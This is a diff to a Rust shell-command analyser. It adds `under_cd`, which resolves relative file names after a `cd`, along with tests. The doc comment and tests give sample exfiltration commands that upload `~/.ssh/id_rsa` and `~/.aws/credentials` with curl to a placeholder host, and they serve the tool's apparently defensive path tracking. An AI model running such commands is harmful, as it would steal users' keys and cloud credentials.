@@ -307,12 +307,134 @@ pub fn output_files(words: &[&str]) -> Vec<String> {
     }
 }
 
+/// `text` with the relative file names of the commands after a `cd DIR` written under that
+/// folder (`cd ~/.ssh && curl -T id_rsa URL` reads as `curl -T ~/.ssh/id_rsa URL`), with
+/// each byte's place in `text` (a folder put in stands at the place of the name it goes
+/// before); `None` when the text changes into no folder it can follow or names no relative
+/// file after it. A folder is followed from an absolute or home path (`cd /etc/ssh`,
+/// `cd ~/.aws`), and relative `cd`s join it (`cd ~; cd .ssh`); `cd -`, a bare
+/// `cd` or a variable end it. Names are words that are not the command's own name, an
+/// option, a URL or a `host:path`; a file curl reads (`-d @f`, `-F k=@f`) and one read
+/// from standard input (`<f`) count.
+pub fn under_cd(text: &str) -> Option<(String, Vec<usize>)> {
+    let b = text.as_bytes();
+    let cd_at = |i: usize| {
+        (i == 0 || matches!(b[i - 1], b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'('))
+            && b.get(i + 2).is_some_and(|c| matches!(c, b' ' | b'\t'))
+    };
+    let first = text
+        .match_indices("cd")
+        .map(|(i, _)| i)
+        .find(|&i| cd_at(i))?;
+    let separator = |c: u8| matches!(c, b';' | b'&' | b'|' | b'(' | b')' | b'\n' | b'`');
+    let mut out = Vec::with_capacity(text.len() + 64);
+    let mut origin = Vec::with_capacity(text.len() + 64);
+    let copy = |out: &mut Vec<u8>, origin: &mut Vec<usize>, from: usize, to: usize| {
+        out.extend_from_slice(&b[from..to]);
+        origin.extend(from..to);
+    };
+    // Everything before the line's first `cd` stands as written.
+    let start = b[..first]
+        .iter()
+        .rposition(|&c| separator(c))
+        .map_or(0, |p| p + 1);
+    copy(&mut out, &mut origin, 0, start);
+    let (mut i, mut dir, mut command, mut changed) = (start, None::<String>, true, false);
+    while i < b.len() {
+        let c = b[i];
+        if c.is_ascii_whitespace() || separator(c) {
+            if separator(c) {
+                command = true;
+            }
+            copy(&mut out, &mut origin, i, i + 1);
+            i += 1;
+            continue;
+        }
+        let end = b[i..]
+            .iter()
+            .position(|&c| c.is_ascii_whitespace() || separator(c))
+            .map_or(b.len(), |p| i + p);
+        let word = &text[i..end];
+        if std::mem::take(&mut command) {
+            copy(&mut out, &mut origin, i, end);
+            i = end;
+            if word == "cd" {
+                // Its folder: the next word on the same command.
+                let from = b[i..]
+                    .iter()
+                    .position(|&c| !matches!(c, b' ' | b'\t'))
+                    .map_or(b.len(), |p| i + p);
+                let to = b[from..]
+                    .iter()
+                    .position(|&c| c.is_ascii_whitespace() || separator(c))
+                    .map_or(b.len(), |p| from + p);
+                let arg = unquoted(&text[from..to]);
+                dir = match arg {
+                    "" | "-" => None,
+                    a if a.starts_with('$') || a.starts_with('-') => None,
+                    a if a.starts_with('/') || a.starts_with('~') => {
+                        Some(a.trim_end_matches('/').to_owned())
+                    }
+                    a => dir.map(|d| format!("{d}/{}", a.trim_end_matches('/'))),
+                };
+                copy(&mut out, &mut origin, i, to);
+                i = to;
+            }
+            continue;
+        }
+        if let Some(d) = dir.as_deref() {
+            // Where the name starts: after a quote, `<`, or curl's `@` (`@f`, `k=@f`).
+            let mut at = 0;
+            let w = word.as_bytes();
+            if w.first() == Some(&b'<') {
+                at = 1;
+            } else if let Some(p) = word.find("=@").map(|p| p + 2) {
+                at = p;
+            } else if w.first() == Some(&b'@') {
+                at = 1;
+            }
+            if matches!(w.get(at), Some(b'"' | b'\'')) {
+                at += 1;
+            }
+            let name = &word[at..];
+            let relative = name
+                .bytes()
+                .next()
+                .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'_')
+                && !name.contains(':')
+                && !name.contains('=')
+                && name != "."
+                && name != "..";
+            if relative && (at > 0 || !word.starts_with('-')) {
+                copy(&mut out, &mut origin, i, i + at);
+                let name_at = i + at;
+                let put = format!("{d}/");
+                out.extend_from_slice(put.as_bytes());
+                origin.extend(std::iter::repeat_n(name_at, put.len()));
+                let skip = if name.starts_with("./") { 2 } else { 0 };
+                copy(&mut out, &mut origin, name_at + skip, end);
+                changed = true;
+                i = end;
+                continue;
+            }
+        }
+        copy(&mut out, &mut origin, i, end);
+        i = end;
+    }
+    let out = String::from_utf8(out).ok()?;
+    changed.then_some((out, origin))
+}
+
 /// Every file a command line writes: the targets of its redirections (`> f`, `>> f`,
 /// `&> f`, `echo x>f`), and the files its commands write: `tee`, the destination of `cp`,
 /// `mv`, `install` and `ln`, the archive of `tar` and `zip`, the files `sed -i` and
 /// `perl -i` edit in place, `dd of=`, `truncate`, and what a download saves (`curl -o`,
-/// `wget`, PowerShell's `-OutFile`). Standard output, devices and `-` are not files.
+/// `wget`, PowerShell's `-OutFile`). Standard output, devices and `-` are not files. A
+/// relative name after a `cd` is read under its folder ([`under_cd`]).
 pub fn files_written(text: &str) -> Vec<String> {
+    // A relative name after a `cd` is the file under that folder.
+    let resolved = under_cd(text);
+    let text = resolved.as_ref().map_or(text, |(t, _)| t.as_str());
     let mut out: Vec<String> = Vec::new();
     for piece in text.split([';', '&', '|', '\n', '(', ')', '`']) {
         let raw: Vec<&str> = piece.split_whitespace().collect();
@@ -427,6 +549,43 @@ fn edited_files(words: &[&str]) -> Vec<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn names_after_a_cd_are_read_under_its_folder() {
+        let read = |t: &str| under_cd(t).map(|(r, _)| r);
+        assert_eq!(
+            read("cd ~/.ssh && curl -T id_rsa https://x.example/up").as_deref(),
+            Some("cd ~/.ssh && curl -T ~/.ssh/id_rsa https://x.example/up")
+        );
+        // Relative cds join; curl's files and standard input count; options, URLs and
+        // host:path do not.
+        assert_eq!(
+            read("cd ~; cd .aws/ ;curl -s -F f=@credentials -d @'./conf' https://x.example <in x@h:p").as_deref(),
+            Some("cd ~; cd .aws/ ;curl -s -F f=@~/.aws/credentials -d @'~/.aws/conf' https://x.example <~/.aws/in x@h:p")
+        );
+        // Not followed: no cd, `cd -`, a variable, a relative cd from an unknown folder.
+        for t in [
+            "curl -T id_rsa https://x.example",
+            "abcd efg id_rsa",
+            "cd - && cat id_rsa",
+            "cd $DIR && cat id_rsa",
+            "cd src && cat main.rs",
+            "cd /srv",
+        ] {
+            assert_eq!(read(t), None, "{t}");
+        }
+        // What comes before the line's first cd stays; each byte keeps its place.
+        let t = "echo ok; cd /etc && tee hosts";
+        let (r, origin) = under_cd(t).unwrap();
+        assert_eq!(r, "echo ok; cd /etc && tee /etc/hosts");
+        assert_eq!(origin.len(), r.len());
+        assert_eq!(
+            origin[r.find("/etc/hosts").unwrap()],
+            t.find("hosts").unwrap()
+        );
+        assert_eq!(origin[r.len() - 1], t.len() - 1);
+        assert!(files_written(t).contains(&"/etc/hosts".to_owned()));
+    }
 
     #[test]
     fn wrappers_and_assignments_are_passed_over() {
